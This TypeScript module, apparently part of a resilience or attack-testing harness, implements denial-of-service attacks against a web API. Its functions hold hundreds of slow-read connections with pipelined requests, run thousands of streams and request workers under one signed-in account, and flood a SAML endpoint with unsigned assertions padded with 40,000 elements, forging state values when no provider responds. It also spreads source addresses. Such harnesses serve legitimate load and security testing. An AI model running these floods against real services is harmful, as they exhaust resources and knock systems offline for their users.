import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { holdCrowd } from './sockets.ts'
import { ask, attackersAddress, signIn, type Target } from './target.ts'

const UNREAD_CONNECTIONS = 400
const PIPELINED = 8
const UNREAD_LIFETIME_MS = 10_000
const STREAMS = 2_000
const WORKERS = 32
const STREAM = '/v1/ignition/machines/me/stream'
const PATHS = [
  '/v1/ignition/machines/me?includeHistory=true',
  '/v1/auth/me',
  '/v1/ignition/machines/ids',
  '/v1/alarms/summary',
]

/** Connections that ask for a large answer many times at once and read nothing. */
export async function unread({ url }: Target, until: number): Promise<string> {
  const act = (socket: Socket) => {
    socket.pause()
    socket.write('GET /v1/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(PIPELINED))
  }
  const counts = await holdCrowd(
    { ...placeOf(url, 0), size: UNREAD_CONNECTIONS, lifetimeMs: UNREAD_LIFETIME_MS, act },
    until,
  )
  return `${counts.opened} connections asked ${PIPELINED} times each`
}

/** Thousands of live streams and requests of one user. */
export async function oneUser(target: Target, until: number): Promise<string> {
  const { url } = target
  const from = attackersAddress(url, 0)
  const headers = await signIn(url, target.attacker, target.password, from)
  const statuses = new Map<number, number>()
  const work = Array.from({ length: WORKERS }, async (_, worker) => {
    for (let turn = worker; Date.now() < until; turn++) {
      const answer = await ask(`${url}${PATHS[turn % PATHS.length]}`, { headers, from }).catch(() => undefined)
      const status = answer?.status ?? 0
      statuses.set(status, (statuses.get(status) ?? 0) + 1)
    }
  })
  const act = (socket: Socket) => {
    socket.on('data', () => undefined)
    socket.write(`GET ${STREAM} HTTP/1.1\r\nHost: x\r\nAuthorization: ${headers.authorization}\r\n\r\n`)
  }
  const streams = await holdCrowd({ ...placeOf(url, 0), size: STREAMS, act }, until)
  await Promise.all(work)
  const summary = [...statuses].map(([status, count]) => `${count} x ${status === 0 ? 'no answer' : status}`).join(', ')
  return `${streams.opened} streams were asked for, ${streams.ended} ended; requests: ${summary}`
}

/** Unsigned assertions with 40,000 empty elements. */
export async function saml({ url }: Target, until: number): Promise<string> {
  // What the flood of one user has used up of its address is not to protect from this one.
  const from = attackersAddress(url, 6)
  const started = await startSignOn(url, from)
  const xml = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_1" Version="2.0"><saml:Assertion ID="_2" Version="2.0">${'<a/>'.repeat(40_000)}</saml:Assertion></samlp:Response>`
  const statuses = new Map<string, number>()
  for (let sent = 0; Date.now() < until; sent++) {
    const { state, cookie } = (await startSignOn(url, from)) ?? started ?? { state: `made-up-${sent}`, cookie: '' }
    const form = { SAMLResponse: Buffer.from(xml).toString('base64'), RelayState: state }
    const body = new URLSearchParams(form).toString()
    const type = 'application/x-www-form-urlencoded'
    const headers = { 'content-type': type, 'content-length': String(body.length), cookie }
    const answer = await ask(`${url}/auth/saml2/acs`, { method: 'POST', headers, body, from }).catch(() => undefined)
    const outcome = answer === undefined ? 'no answer' : String(answer.status)
    statuses.set(outcome, (statuses.get(outcome) ?? 0) + 1)
    await sleep(100)
  }
  const summary = [...statuses].map(([status, count]) => `${count} x ${status}`).join(', ')
  return `${started === undefined ? 'no SAML provider is switched on, so the states were made up; ' : ''}${summary}`
}

/** Begins a sign-on as a browser does. @returns what the provider would send back; undefined if there is no provider */
async function startSignOn(
  url: string,
  from: string | undefined,
): Promise<{ state: string; cookie: string } | undefined> {
  const query = new URLSearchParams({
    redirect: '/okta/callback',
    state: 'a'.repeat(64),
    code_challenge: 'A'.repeat(43),
    code_challenge_method: 'S256',
  })
  const { headers } = await ask(`${url}/auth/saml2/login?${query}`, { from })
  const state = new URL(String(headers.location ?? '/'), url).searchParams.get('RelayState')
  if (state === null) return undefined
  return {
    state,
    cookie: [headers['set-cookie'] ?? []]
      .flat()
      .map((entry) => entry.split(';')[0])
      .join('; '),
  }
}

export function placeOf(url: string, index: number): { host: string; port: number; from: string | undefined } {
  const { hostname, port } = new URL(url)
  return { host: hostname, port: Number(port || 80), from: attackersAddress(url, index) }
}
